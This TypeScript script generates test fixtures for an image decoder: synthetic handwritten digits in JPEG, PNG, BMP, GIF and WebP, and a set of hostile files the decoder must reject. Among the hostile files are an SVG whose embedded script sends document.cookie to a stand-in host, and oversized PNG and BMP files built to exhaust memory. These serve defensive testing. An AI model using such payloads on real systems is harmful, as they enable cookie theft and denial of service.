/**
 * Regenerates tests/fixtures/digits (handwritten-like digits in every accepted format and in hard
 * conditions) and tests/fixtures/hostile (files decodeImage must refuse). Deterministic: the
 * same seed draws the same strokes. Run: npx tsx scripts/make-digit-fixtures.ts
 */
import { mkdirSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { createRng } from '../src/shared/random'

const root = join(dirname(fileURLToPath(import.meta.url)), '..')
const digitsDir = join(root, 'tests/fixtures/digits')
const hostileDir = join(root, 'tests/fixtures/hostile')

type Point = [number, number]
/** A stroke: a start point and cubic Bézier segments (control, control, end), in a 100×140 box. */
type Stroke = { start: Point; curves: [Point, Point, Point][] }

const line = (a: Point, b: Point): [Point, Point, Point] => [
  [a[0] + (b[0] - a[0]) / 3, a[1] + (b[1] - a[1]) / 3],
  [a[0] + ((b[0] - a[0]) * 2) / 3, a[1] + ((b[1] - a[1]) * 2) / 3],
  b,
]

/** Each digit as a person writes it, pen down to pen up, in a 100 wide × 140 tall box. */
const GLYPHS: Record<number, Stroke[]> = {
  0: [
    {
      start: [52, 10],
      curves: [
        [
          [20, 8],
          [12, 50],
          [13, 75],
        ],
        [
          [14, 115],
          [32, 132],
          [50, 132],
        ],
        [
          [78, 132],
          [90, 102],
          [88, 70],
        ],
        [
          [86, 32],
          [76, 8],
          [48, 12],
        ],
      ],
    },
  ],
  1: [
    {
      start: [34, 34],
      curves: [
        line([34, 34], [56, 10]),
        [
          [57, 50],
          [55, 95],
          [54, 134],
        ],
      ],
    },
  ],
  2: [
    {
      start: [16, 42],
      curves: [
        [
          [18, 8],
          [82, 2],
          [80, 42],
        ],
        [
          [78, 72],
          [40, 95],
          [14, 130],
        ],
        line([14, 130], [90, 127]),
      ],
    },
  ],
  3: [
    {
      start: [18, 26],
      curves: [
        [
          [38, 0],
          [86, 8],
          [78, 44],
        ],
        [
          [74, 64],
          [56, 70],
          [40, 70],
        ],
        [
          [66, 70],
          [90, 86],
          [86, 106],
        ],
        [
          [80, 142],
          [28, 140],
          [14, 114],
        ],
      ],
    },
  ],
  4: [
    { start: [62, 10], curves: [line([62, 10], [12, 96]), line([12, 96], [92, 94])] },
    {
      start: [70, 44],
      curves: [
        [
          [69, 75],
          [68, 105],
          [67, 136],
        ],
      ],
    },
  ],
  5: [
    {
      start: [82, 12],
      curves: [
        line([82, 12], [30, 14]),
        line([30, 14], [24, 64]),
        [
          [46, 50],
          [88, 56],
          [86, 94],
        ],
        [
          [84, 132],
          [38, 140],
          [14, 116],
        ],
      ],
    },
  ],
  6: [
    {
      start: [74, 14],
      curves: [
        [
          [44, 4],
          [14, 46],
          [15, 90],
        ],
        [
          [16, 124],
          [40, 136],
          [56, 133],
        ],
        [
          [80, 130],
          [89, 106],
          [85, 90],
        ],
        [
          [80, 64],
          [48, 62],
          [20, 88],
        ],
      ],
    },
  ],
  7: [
    {
      start: [12, 16],
      curves: [
        line([12, 16], [88, 14]),
        [
          [70, 52],
          [52, 92],
          [44, 136],
        ],
      ],
    },
  ],
  8: [
    {
      start: [50, 70],
      curves: [
        [
          [18, 60],
          [18, 14],
          [50, 12],
        ],
        [
          [82, 12],
          [82, 60],
          [50, 70],
        ],
        [
          [14, 82],
          [14, 132],
          [50, 132],
        ],
        [
          [86, 132],
          [86, 82],
          [50, 70],
        ],
      ],
    },
  ],
  9: [
    {
      start: [80, 44],
      curves: [
        [
          [78, 10],
          [24, 8],
          [20, 40],
        ],
        [
          [18, 72],
          [74, 74],
          [80, 44],
        ],
        [
          [83, 82],
          [78, 112],
          [72, 136],
        ],
      ],
    },
  ],
}

interface DrawOptions {
  digit: number
  seed: number
  /** Digit height in output pixels. */
  size: number
  center: Point
  /** Stroke width in output pixels. */
  stroke: number
  rotate?: number
  ink: string
  opacity?: number
}

/** The digit's strokes as SVG, jittered (each point by ~3% of the box) and slanted like a hand. */
function digitSvg(o: DrawOptions): string {
  const rng = createRng(o.seed)
  const normal = (): number => {
    const u = Math.max(rng(), 1e-9)
    return Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * rng())
  }
  const shear = (rng() - 0.5) * 0.35
  const widen = 0.85 + rng() * 0.25
  const move = ([x, y]: Point): string => {
    const jx = x + normal() * 2.5
    const jy = y + normal() * 2.5
    return `${((jx - 50) * widen + (jy - 72) * shear + 50).toFixed(2)},${jy.toFixed(2)}`
  }
  const paths = GLYPHS[o.digit].map((s) => {
    const curves = s.curves.map((c) => `C${move(c[0])} ${move(c[1])} ${move(c[2])}`).join(' ')
    return `M${move(s.start)} ${curves}`
  })
  const scale = o.size / 140
  const width = o.stroke / scale
  return (
    `<g transform="translate(${o.center[0]},${o.center[1]}) rotate(${o.rotate ?? 0}) ` +
    `scale(${scale}) translate(-50,-72)" fill="none" stroke="${o.ink}" ` +
    `stroke-opacity="${o.opacity ?? 1}" stroke-width="${width.toFixed(2)}" ` +
    `stroke-linecap="round" stroke-linejoin="round">` +
    paths.map((d) => `<path d="${d}"/>`).join('') +
    `</g>`
  )
}

function svgDoc(width: number, height: number, background: string, body: string): Buffer {
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">` +
      `<defs>${background.startsWith('<') ? background : ''}</defs>` +
      (background === 'none'
        ? ''
        : `<rect width="100%" height="100%" fill="${background.startsWith('<') ? 'url(#bg)' : background}"/>`) +
      body +
      `</svg>`,
  )
}

const paperGradient = (from: string, to: string, angle = 0): string =>
  `<linearGradient id="bg" gradientTransform="rotate(${angle})">` +
  `<stop offset="0" stop-color="${from}"/><stop offset="1" stop-color="${to}"/></linearGradient>`

const shadowGradient = (light: string, dark: string): string =>
  `<radialGradient id="bg" cx="0.3" cy="0.3" r="0.9">` +
  `<stop offset="0" stop-color="${light}"/><stop offset="1" stop-color="${dark}"/></radialGradient>`

/** Rendered RGB(A) pixels with Gaussian noise (paper grain, sensor noise) added. */
async function render(
  svg: Buffer,
  opts: { noise?: number; blur?: number; seed: number; alpha?: boolean },
): Promise<{ data: Buffer; width: number; height: number; channels: 3 | 4 }> {
  let img = sharp(svg)
  if (opts.blur) img = img.blur(opts.blur)
  if (!opts.alpha) img = img.flatten({ background: '#ffffff' })
  const { data, info } = await img.raw().toBuffer({ resolveWithObject: true })
  const channels = info.channels as 3 | 4
  if (opts.noise) {
    const rng = createRng(opts.seed * 7919)
    for (let i = 0; i < data.length; i += channels) {
      const u = Math.max(rng(), 1e-9)
      const n = Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * rng()) * opts.noise
      for (let c = 0; c < 3; c++) data[i + c] = Math.max(0, Math.min(255, data[i + c] + n))
    }
  }
  return { data, width: info.width, height: info.height, channels }
}

const rawInput = (r: Awaited<ReturnType<typeof render>>): sharp.Sharp =>
  sharp(r.data, { raw: { width: r.width, height: r.height, channels: r.channels } })

/** An uncompressed BMP: 24-bit BGR, or 8-bit with a grey palette. Rows bottom-up, padded to 4. */
function encodeBmp(gray: boolean, width: number, height: number, rgb: Buffer): Buffer {
  const bpp = gray ? 8 : 24
  const stride = Math.floor((bpp * width + 31) / 32) * 4
  const paletteSize = gray ? 256 * 4 : 0
  const offset = 14 + 40 + paletteSize
  const out = Buffer.alloc(offset + stride * height)
  out.write('BM', 0, 'ascii')
  out.writeUInt32LE(out.length, 2)
  out.writeUInt32LE(offset, 10)
  out.writeUInt32LE(40, 14)
  out.writeInt32LE(width, 18)
  out.writeInt32LE(height, 22)
  out.writeUInt16LE(1, 26)
  out.writeUInt16LE(bpp, 28)
  out.writeUInt32LE(stride * height, 34)
  for (let i = 0; gray && i < 256; i++) out.fill(i, 54 + i * 4, 54 + i * 4 + 3)
  for (let y = 0; y < height; y++) {
    const row = offset + (height - 1 - y) * stride
    for (let x = 0; x < width; x++) {
      const p = (y * width + x) * 3
      if (gray) {
        out[row + x] = Math.round(0.299 * rgb[p] + 0.587 * rgb[p + 1] + 0.114 * rgb[p + 2])
      } else {
        out[row + x * 3] = rgb[p + 2]
        out[row + x * 3 + 1] = rgb[p + 1]
        out[row + x * 3 + 2] = rgb[p]
      }
    }
  }
  return out
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})

function crc32(bytes: Buffer): number {
  let c = 0xffffffff
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(data.length, 0)
  head.write(type, 4, 'ascii')
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0)
  return Buffer.concat([head, data, crc])
}

/**
 * A complete, valid all-white 30000×30000 PNG: 1-bit palette whose index 0 is white, so the
 * filtered stream is all zero bytes. Deflate cannot beat ~1030:1, hence ~110 KB, not less.
 */
function hugeWhitePng(side: number): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(side, 0)
  ihdr.writeUInt32BE(side, 4)
  ihdr[8] = 1
  ihdr[9] = 3
  const raw = Buffer.alloc((Math.ceil(side / 8) + 1) * side)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    signature,
    pngChunk('IHDR', ihdr),
    pngChunk('PLTE', Buffer.from([255, 255, 255])),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

const PAPER = paperGradient('#f6f3ea', '#c8c2b4', 25)
const BLUE_INK = '#1c2a5c'

async function makeDigits(): Promise<void> {
  const out = (name: string, data: Buffer): void => writeFileSync(join(digitsDir, name), data)
  const doc = (
    w: number,
    h: number,
    bg: string,
    o: Omit<DrawOptions, 'center'> & { center?: Point },
  ) => svgDoc(w, h, bg, digitSvg({ center: [w / 2, h / 2], ...o }))

  let r = await render(
    doc(640, 480, PAPER, { digit: 0, seed: 10, size: 300, stroke: 14, rotate: 3, ink: BLUE_INK }),
    { noise: 6, blur: 0.7, seed: 10 },
  )
  out('0-dark-on-light-paper.jpg', await rawInput(r).jpeg({ quality: 82 }).toBuffer())

  r = await render(
    doc(480, 360, shadowGradient('#f2efe6', '#6e6a60'), {
      digit: 0,
      seed: 11,
      size: 250,
      stroke: 16,
      ink: '#202020',
    }),
    { noise: 5, blur: 0.8, seed: 11 },
  )
  out('0-shadowed-photo.jpg', await rawInput(r).jpeg({ quality: 80 }).toBuffer())

  r = await render(
    doc(400, 400, '#2e3b35', {
      digit: 1,
      seed: 20,
      size: 260,
      stroke: 18,
      ink: '#e6e6dc',
      opacity: 0.9,
    }),
    { noise: 10, blur: 1, seed: 20 },
  )
  out('1-light-on-dark-chalkboard.jpg', await rawInput(r).jpeg({ quality: 75 }).toBuffer())

  r = await render(
    doc(360, 480, PAPER, { digit: 1, seed: 21, size: 320, stroke: 12, rotate: -6, ink: BLUE_INK }),
    { noise: 6, blur: 0.6, seed: 21 },
  )
  out('1-pen-slanted.jpg', await rawInput(r).jpeg({ quality: 80 }).toBuffer())

  r = await render(
    svgDoc(
      1600,
      1200,
      '#fbfbf8',
      digitSvg({
        digit: 2,
        seed: 30,
        size: 220,
        stroke: 14,
        center: [330, 270],
        ink: '#111111',
      }),
    ),
    { seed: 30 },
  )
  out('2-off-center-big-canvas.png', await rawInput(r).png({ compressionLevel: 9 }).toBuffer())

  r = await render(
    doc(120, 120, '#ffffff', { digit: 2, seed: 31, size: 90, stroke: 8, ink: '#000000' }),
    {
      seed: 31,
    },
  )
  out('2-bitmap-24bit.bmp', encodeBmp(false, r.width, r.height, r.data))

  r = await render(
    svgDoc(
      320,
      240,
      PAPER,
      digitSvg({
        digit: 3,
        seed: 40,
        size: 22,
        stroke: 2.6,
        center: [150, 130],
        ink: BLUE_INK,
      }),
    ),
    { noise: 4, blur: 0.4, seed: 40 },
  )
  out('3-very-small.jpg', await rawInput(r).jpeg({ quality: 85 }).toBuffer())

  r = await render(
    doc(160, 160, '#ffffff', { digit: 3, seed: 41, size: 120, stroke: 10, ink: '#303030' }),
    {
      seed: 41,
      blur: 0.5,
    },
  )
  out('3-paletted-8bit.bmp', encodeBmp(true, r.width, r.height, r.data))

  r = await render(
    doc(210, 250, PAPER, { digit: 4, seed: 50, size: 246, stroke: 26, ink: '#141414' }),
    {
      noise: 5,
      blur: 0.6,
      seed: 50,
    },
  )
  out('4-fills-image.jpg', await rawInput(r).jpeg({ quality: 80 }).toBuffer())

  const frame = async (digit: number, seed: number): Promise<Buffer> => {
    const f = await render(
      doc(240, 240, '#ffffff', { digit, seed, size: 180, stroke: 16, ink: '#000000' }),
      {
        seed,
      },
    )
    return rawInput(f).png().toBuffer()
  }
  out(
    '4-animated-first-frame.gif',
    await sharp([await frame(4, 51), await frame(1, 52)], { join: { animated: true } })
      .gif({ delay: [500, 500], colours: 16 })
      .toBuffer(),
  )

  r = await render(
    doc(480, 360, PAPER, { digit: 5, seed: 60, size: 240, stroke: 14, rotate: -4, ink: BLUE_INK }),
    {
      noise: 18,
      blur: 1.2,
      seed: 60,
    },
  )
  out('5-noisy-low-quality.jpg', await rawInput(r).jpeg({ quality: 30 }).toBuffer())

  r = await render(
    doc(300, 300, '#ffffff', { digit: 5, seed: 61, size: 210, stroke: 18, ink: '#000000' }),
    {
      seed: 61,
    },
  )
  out('5-canvas-drawing.webp', await rawInput(r).webp({ quality: 80 }).toBuffer())

  r = await render(
    doc(400, 400, PAPER, { digit: 6, seed: 70, size: 260, stroke: 15, rotate: 12, ink: BLUE_INK }),
    {
      noise: 6,
      blur: 0.6,
      seed: 70,
    },
  )
  out('6-rotated-12deg.jpg', await rawInput(r).jpeg({ quality: 80 }).toBuffer())

  r = await render(
    doc(480, 360, paperGradient('#8a877f', '#6f6c66', 70), {
      digit: 6,
      seed: 71,
      size: 250,
      stroke: 12,
      ink: '#3a3a3a',
      opacity: 0.85,
    }),
    { noise: 7, blur: 0.9, seed: 71 },
  )
  out('6-pencil-on-gray-paper.jpg', await rawInput(r).jpeg({ quality: 75 }).toBuffer())

  r = await render(
    doc(400, 400, '#ffffff', { digit: 7, seed: 80, size: 250, stroke: 34, ink: '#101010' }),
    {
      seed: 80,
    },
  )
  out('7-thick-marker.png', await rawInput(r).png().toBuffer())

  r = await render(
    doc(480, 480, PAPER, {
      digit: 7,
      seed: 81,
      size: 300,
      stroke: 14,
      rotate: -15,
      ink: '#222222',
    }),
    { noise: 8, blur: 0.8, seed: 81 },
  )
  out('7-rotated-minus-15deg.jpg', await rawInput(r).jpeg({ quality: 70 }).toBuffer())

  r = await render(
    doc(800, 600, '#f7f7f4', { digit: 8, seed: 90, size: 420, stroke: 3, ink: '#15151f' }),
    {
      noise: 4,
      blur: 0.5,
      seed: 90,
    },
  )
  out('8-thin-pen.jpg', await rawInput(r).jpeg({ quality: 85 }).toBuffer())

  const ruled = Array.from(
    { length: 12 },
    (_, i) =>
      `<line x1="0" x2="480" y1="${20 + i * 32}" y2="${20 + i * 32}" stroke="#9fb8dc" stroke-width="2"/>`,
  ).join('')
  r = await render(
    svgDoc(
      480,
      400,
      '#fbfaf4',
      ruled +
        digitSvg({
          digit: 8,
          seed: 91,
          size: 200,
          stroke: 11,
          center: [250, 200],
          ink: BLUE_INK,
        }),
    ),
    { noise: 5, blur: 0.6, seed: 91 },
  )
  out('8-ruled-notebook.jpg', await rawInput(r).jpeg({ quality: 80 }).toBuffer())

  r = await render(
    doc(280, 280, 'none', { digit: 9, seed: 100, size: 200, stroke: 18, ink: '#000000' }),
    { seed: 100, alpha: true },
  )
  out('9-transparent-background.png', await rawInput(r).png().toBuffer())

  r = await render(
    doc(280, 280, '#000000', { digit: 9, seed: 101, size: 200, stroke: 22, ink: '#ffffff' }),
    {
      seed: 101,
    },
  )
  out('9-white-on-black.png', await rawInput(r).png().toBuffer())
}

async function makeHostile(): Promise<void> {
  const out = (name: string, data: Buffer | string): void =>
    writeFileSync(join(hostileDir, name), data)
  const svg =
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">\n' +
    '  <script>fetch("https://example.invalid/?c=" + document.cookie)</script>\n' +
    '  <text x="10" y="60" font-size="50">7</text>\n</svg>\n'
  out('svg-with-script.svg', svg)
  out('svg-with-script.png', svg)
  out('text-named.png', 'This is a plain text file that only pretends to be a PNG.\n')
  out('page-named.jpg', '<!DOCTYPE html>\n<html><body><img src="7.png"></body></html>\n')
  out('empty.png', Buffer.alloc(0))

  const r = await render(
    svgDoc(
      100,
      100,
      '#ffffff',
      digitSvg({ digit: 7, seed: 5, size: 80, stroke: 8, center: [50, 50], ink: '#000' }),
    ),
    { seed: 5, noise: 20 },
  )
  const png = await rawInput(r).png().toBuffer()
  const jpeg = await rawInput(r).jpeg({ quality: 90 }).toBuffer()
  out('truncated.png', png.subarray(0, Math.floor(png.length / 2)))
  out('truncated.jpg', jpeg.subarray(0, Math.floor(jpeg.length / 2)))
  out('huge-30000x30000.png', hugeWhitePng(30000))

  const bmp = encodeBmp(false, r.width, r.height, r.data)
  out('truncated.bmp', bmp.subarray(0, Math.floor(bmp.length / 2)))
  const huge = Buffer.from(bmp.subarray(0, 54))
  huge.writeInt32LE(100_000, 18)
  huge.writeInt32LE(100_000, 22)
  out('huge-dims-100000x100000.bmp', huge)
  const rle = Buffer.from(bmp.subarray(0, 1078))
  rle.writeUInt16LE(8, 28)
  rle.writeUInt32LE(1, 30)
  out('rle-compressed.bmp', rle)
}

function folderSize(dir: string): number {
  return readdirSync(dir).reduce((sum, f) => sum + statSync(join(dir, f)).size, 0)
}

for (const dir of [digitsDir, hostileDir]) {
  mkdirSync(dir, { recursive: true })
  for (const f of readdirSync(dir, { withFileTypes: true })) {
    if (f.isFile() && f.name !== 'README.md') rmSync(join(dir, f.name))
  }
}
await makeDigits()
await makeHostile()
console.log(`digits: ${folderSize(digitsDir)} bytes, hostile: ${folderSize(hostileDir)} bytes`)
